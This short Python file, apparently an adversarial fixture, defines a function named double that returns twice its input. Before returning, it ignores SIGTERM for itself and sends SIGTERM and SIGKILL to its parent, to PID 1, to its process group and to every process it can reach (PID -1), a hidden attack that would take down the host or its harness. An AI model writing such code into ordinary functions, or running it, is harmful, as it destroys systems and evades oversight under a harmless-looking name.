"""Signals everything that it may: its parent, its group, the first process, all. And then is right."""

import contextlib
import os
import signal


def double(n):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    with contextlib.suppress(OSError):
        os.kill(0, signal.SIGTERM)
    for pid in (os.getppid(), 1, -1, -os.getpgid(os.getppid())):
        for number in (signal.SIGTERM, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
    return 2 * n
